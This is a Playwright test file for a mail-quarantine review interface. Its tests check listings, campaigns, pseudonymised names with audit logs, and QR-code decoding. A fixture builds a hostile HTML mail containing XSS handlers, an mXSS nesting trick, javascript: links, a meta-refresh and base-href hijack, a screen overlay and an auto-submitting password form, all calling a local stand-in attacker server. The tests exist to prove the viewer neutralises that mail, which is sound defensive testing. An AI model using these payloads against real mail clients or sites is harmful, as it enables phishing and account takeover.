import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { decodePicture } from "../../src/parsers/mail/codes/decode.ts";
import { DecodeWork } from "../../src/parsers/mail/codes/decode-work.ts";
import { readPicture } from "../../src/parsers/mail/codes/pixels.ts";
import { needs } from "../needs.ts";
import { letterBytes, type MailLab, mailLab } from "../support/mail-lab.ts";
import { CAN_RUN, LACKS, launch, logIn, type Stage, settled, stage, visit } from "./browser.ts";

const LINK = "https://sssafjeuihiolsw.example/TeLuvqUr";

/** A body that tries to run, to load, to send, to go somewhere and to cover what is around it. `at` is the attacker's own server. */
function attack(at: string): string {
  return `<html><head><title>x</title><base href="${at}/"><meta http-equiv="refresh" content="0;url=${at}/refresh">
<link rel="stylesheet" href="${at}/style.css"><link rel="preload" as="image" href="${at}/preload"><link rel="dns-prefetch" href="${at}">
<style>@import url("${at}/import.css");@font-face{font-family:f;src:url(${at}/font)}body{background:url(${at}/bg);font-family:f}</style>
<script>fetch("${at}/fetch");parent.document.title="owned";top.location="${at}/top"</script></head>
<body onload="fetch('${at}/onload')" background="${at}/body">
<img src="${at}/pixel.gif" width=1 height=1><img srcset="${at}/srcset 1x"><img src=x onerror="fetch('${at}/onerror')">
<svg onload="fetch('${at}/svg')"><image href="${at}/svgimage"/><use href="${at}/use#a"/><animate onbegin="fetch('${at}/animate')"/><script>fetch('${at}/svgscript')</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="fetch('${at}/mxss')"></style></mglyph></table></mtext></math>
<iframe src="${at}/iframe"></iframe><iframe srcdoc="<img src=${at}/srcdoc>"></iframe><object data="${at}/object"></object><embed src="${at}/embed">
<video poster="${at}/poster" src="${at}/video" autoplay></video><audio src="${at}/audio" autoplay></audio>
<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(${at}/div);z-index:9999">Covering text</div>
<form action="${at}/form" method="post"><input name="password" type="password" autofocus onfocus="fetch('${at}/focus')"><button formaction="${at}/button">Sign in</button></form>
<a href="${at}/click" ping="${at}/ping" target="_top">Open the document</a> <a href="javascript:fetch('${at}/js')">or here</a>
<p>Dear Anna Ahrens, your address anna.ahrens@own.example</p><script>document.forms[0].submit()</script></body></html>`;
}

describe("pages of mail (E8, E10, E17, E19, E26, E35, E37)", () => {
  let browser: Browser;
  let mails: MailLab;
  let place: Stage;
  let attacker: Server;
  let at: string;
  let held: string;
  const asked: string[] = [];

  beforeAll(async () => {
    if (!CAN_RUN) return;
    attacker = createServer((request, response) => {
      asked.push(String(request.url));
      response.end("x");
    });
    await new Promise<void>((done) => attacker.listen(0, "127.0.0.1", done));
    at = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    mails = await mailLab();
    held = await mails.take(letterBytes({ html: attack(at), code: LINK }));
    for (let i = 0; i < 55; i++) {
      const from = `=?utf-8?B?6LSi5Yqh6YOo?= <10${[234, 871, 309, 455, 120, 666, 782, 901][i % 8]}@shack.example>`;
      const date = new Date(Date.UTC(2026, 2, 3 + Math.floor(i / 19), 9, i)).toUTCString();
      const bytes = letterBytes({ html: `<p>Please read <a href="${LINK}">this</a></p>`, from, to: `Reader ${i} <reader${i}@own.example>`, date, file: true });
      await mails.take(bytes, { inCampaign: true });
    }
    await mails.take(letterBytes({ html: "<p>Hello</p>", from: "Ines Falk <ines@fernbridge.example>", subject: "Offer" }), {
      verdict: "deliver",
      score: 12,
      tags: [],
    });
    browser = await launch();
    place = await stage({ replace: mails.services });
  });
  afterAll(async () => {
    await browser?.close();
    await place?.close();
    await mails?.lab.end();
    attacker?.close();
  });

  async function frameOf(page: Page): Promise<Frame> {
    await page.getByRole("button", { name: "As it looked" }).click();
    const frame = await page.locator("iframe.body").elementHandle();
    const content = await frame?.contentFrame();
    if (content === null || content === undefined) throw new Error("the page has no frame");
    await content.waitForLoadState("load");
    return content;
  }

  test("the log: sender, three places, tags, score; what needs no decision is one press away", async (context) => {
    needs(context, ...LACKS);
    const { page, faults } = await visit(browser);
    await logIn(page, place.url, "viewer", "/mail");
    await settled(page);
    expect(await page.locator("h1").textContent()).toBe("56 mails should be held, none marked; the gateway before us let 56 of them through.");
    const row = await page.locator(".mlist > ul > li").last().textContent();
    for (const text of [
      "90",
      "财务部",
      "10234@shack.example",
      "The document has been delivered",
      "P-1",
      "CN",
      "SG",
      "Multistage Payload",
      "missed by the gateway",
    ])
      expect(row).toContain(text);
    expect(await page.locator(".mlist > ul > li").count()).toBe(2);
    await page.getByRole("button", { name: /^All/ }).click();
    await page.getByText("Offer").waitFor();
    expect(page.url()).toContain("verdict=all");
    await page.getByLabel("Text").fill("fernbridge");
    await page.keyboard.press("Enter");
    await page.getByText("One row fits.").waitFor();
    await page.keyboard.press("Escape");
    expect(faults).toEqual([]);
  });

  test("a body that attacks the reviewer stays inert: nothing leaves, runs or goes anywhere, not even when clicked", async (context) => {
    needs(context, ...LACKS);
    const { page, faults, context: profile } = await visit(browser);
    await logIn(page, place.url, "analyst", `/mail/${held}`);
    await settled(page);
    const frame = await frameOf(page);
    const url = frame.url();
    expect(url).toBe(`${place.url}/api/v1/mails/${held}/body`);
    const text = await frame.locator("body").textContent();
    expect(text).toContain("Covering text");
    expect(text).toContain("Open the document[127[.]0[.]0[.]1");
    expect(text).toContain("field: password");
    // People stand under their pseudonyms in the very text of the message.
    expect(text).toContain("Dear P-1, your address P-1");
    for (const word of ["Open the document", "or here", "Sign in"]) await frame.getByText(word).first().click({ timeout: 5_000 });
    const covering = await frame.getByText("Covering text").boundingBox();
    await page.mouse.click((covering?.x ?? 0) + 4, (covering?.y ?? 0) + 4);
    await page.waitForTimeout(400);
    expect(asked).toEqual([]);
    expect(profile.pages()).toHaveLength(1);
    expect(page.url()).toBe(`${place.url}/mail/${held}`);
    expect(frame.url()).toBe(url);
    expect(await page.title()).not.toBe("owned");
    expect(await frame.locator("a, form, input, img, iframe, script, svg, object, embed, base, meta[http-equiv]").count()).toBe(0);
    expect(await page.getByText("active taken out").count()).toBe(1);
    expect(faults).toEqual([]);
  });

  test("second belt: the frame alone holds the same body back, as it came", async (context) => {
    needs(context, ...LACKS);
    const bare = await stage({ replace: { ...mails.services, mailBody: async () => attack(at) } });
    try {
      const { page, context: profile } = await visit(browser);
      await logIn(page, bare.url, "analyst", `/mail/${held}`);
      await settled(page);
      const frame = await frameOf(page);
      expect(await frame.locator("form").count()).toBe(1);
      await page.waitForTimeout(400);
      await frame
        .getByText("Sign in")
        .click({ force: true, timeout: 5_000 })
        .catch(() => undefined);
      await frame
        .getByText("Open the document")
        .click({ force: true, timeout: 5_000 })
        .catch(() => undefined);
      await page.waitForTimeout(600);
      expect(asked).toEqual([]);
      expect(page.url()).toBe(`${bare.url}/mail/${held}`);
      expect(profile.pages()).toHaveLength(1);
      expect(await page.title()).not.toBe("owned");
    } finally {
      await bare.close();
    }
  });

  test("nobody else's page may hold the frame, and no viewer gets the text", async (context) => {
    needs(context, ...LACKS);
    const { page } = await visit(browser);
    await logIn(page, place.url, "viewer", `/mail/${held}`);
    await settled(page);
    expect(await page.getByText("Its text is for the role analyst").count()).toBe(1);
    expect(await page.locator("iframe").count()).toBe(0);
    const body = await page.request.get(`${place.url}/api/v1/mails/${held}/body`);
    expect(body.status()).toBe(403);
    const { page: own } = await visit(browser);
    await logIn(own, place.url, "analyst");
    const answer = await own.request.get(`${place.url}/api/v1/mails/${held}/body`);
    expect(answer.headers()["content-security-policy"]).toBe(
      "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'; frame-ancestors 'self'",
    );
    expect(answer.headers()["content-type"]).toBe("text/html; charset=utf-8");
    const foreign = await own.request.get(`${place.url}/api/v1/mails/${held}/body`, { headers: { "sec-fetch-site": "cross-site" } });
    expect(foreign.status()).toBe(403);
  });

  test("stages, the code with its text and verdict, places, indicators, authentication; the code is not scannable until it is uncovered", async (context) => {
    needs(context, ...LACKS);
    const { page, faults } = await visit(browser);
    await logIn(page, place.url, "analyst", `/mail/${held}`);
    await settled(page);
    const headline = await page.locator("h1").textContent();
    expect(headline).toContain("A stranger named “财务部” wrote in Singapore through a server in China, with a link hidden in a QR code in a document.");
    const main = await page.locator("main").textContent();
    for (const text of [
      "Four stages",
      "notice.docx",
      "hxxps[://]sssafjeuihiolsw[.]example/TeLuvqUr",
      "No stored mail led there before.",
      "Unexpected link",
      "missed by the gateway",
      "222.60.117.43",
      "No list of known bad senders, links or files was asked.",
    ])
      expect(main).toContain(text);
    const read = async (): Promise<string[]> => {
      const shot = await page.locator(".stage .code").screenshot({ scale: "css" });
      const picture = await readPicture(shot, { pixels: 1_000_000, side: 1_000 });
      return (await decodePicture(picture, new DecodeWork(50_000_000))).map((c) => c.text);
    };
    expect(await read()).toEqual([]);
    await page.getByRole("button", { name: "uncover" }).click();
    expect(await read()).toEqual([LINK]);
    expect(faults).toEqual([]);
  });

  test("who the people are: with a password, a reason and a row in the audit log; gone when the page is left", async (context) => {
    needs(context, ...LACKS);
    const { page, faults } = await visit(browser);
    await logIn(page, place.url, "analyst", `/mail/${held}`);
    await settled(page);
    expect(await page.locator("main").textContent()).not.toMatch(/ahrens/i);
    await page.keyboard.press("p");
    const go = page.getByRole("button", { name: "Show names" });
    await page.getByLabel("Reason").fill("why");
    expect(await go.isDisabled()).toBe(true);
    await page.getByLabel("Reason").fill("the reader called the desk");
    await go.click();
    await page.getByText("Anna Ahrens <anna.ahrens@own.example>").waitFor();
    const [row] = await mails.lab.store.accounts.auditRows(undefined, 1);
    expect(row).toMatchObject({ action: "reveal-people", target: `mail:${held}`, why: "the reader called the desk", actor: "analyst" });
    await page.reload();
    await settled(page);
    expect(await page.locator("main").textContent()).not.toMatch(/ahrens/i);
    expect(faults).toEqual([]);
  });

  test("a campaign is one row that opens; its page counts exactly, names the shape and who was known by it (E9, E10, E11, E31)", async (context) => {
    needs(context, ...LACKS);
    const { page, faults } = await visit(browser);
    await logIn(page, place.url, "viewer", "/mail");
    await settled(page);
    const row = page.locator(".mlist > ul > li").first();
    expect(await row.textContent()).toContain("8 senders, one campaign");
    expect(await row.textContent()).toContain("55 mails to 55 people on 3 days");
    expect(await row.textContent()).toContain("10???@shack.example");
    expect(await page.locator(".mlist .mrow:not(.mhead)").count()).toBe(2);
    await row.getByRole("button", { name: /8 senders/ }).click();
    await page.locator(".members li").nth(54).waitFor();
    expect(await page.locator(".members li").count()).toBe(55);
    await row.getByRole("link", { name: "The document has been delivered" }).first().click();
    await page.waitForURL("**/campaigns/*");
    await settled(page);
    expect(await page.locator("h1").textContent()).toMatch(
      /^Eight senders wrote 55 mails to 55 people on 3 days, tied by the same file, sender’s domain and link domain\.$/,
    );
    const main = await page.locator("main").textContent();
    for (const text of ["10???[@]shack[.]example", "财务部", "notice.docx", "English", "Six senders were known by their shape before the first mail"])
      expect(main).toContain(text);
    expect(await page.locator(".mtable tbody tr").count()).toBe(55);
    expect(await page.locator("svg[aria-label^='55 mails from 8 senders'] circle").count()).toBe(55);
    const [saved] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Save as CSV" }).click()]);
    const chunks: Buffer[] = [];
    for await (const chunk of await saved.createReadStream()) chunks.push(chunk as Buffer);
    expect(Buffer.concat(chunks).toString("utf8")).toContain("domain,sssafjeuihiolsw.example,links of 55 mails");
    expect(faults).toEqual([]);
  });

  test("the message as received comes with a reason, byte for byte", async (context) => {
    needs(context, ...LACKS);
    const { page, faults } = await visit(browser);
    await logIn(page, place.url, "analyst", `/mail/${held}`);
    await settled(page);
    await page.getByRole("button", { name: /Download as received/ }).click();
    await page.getByLabel("Reason").fill("for the report to the provider");
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download", exact: true }).click()]);
    const chunks: Buffer[] = [];
    for await (const chunk of await download.createReadStream()) chunks.push(chunk as Buffer);
    expect(Buffer.concat(chunks).equals(letterBytes({ html: attack(at), code: LINK }))).toBe(true);
    expect(download.suggestedFilename()).toMatch(/^inbox-1\.eml$/);
    expect(faults).toEqual([]);
  });
});
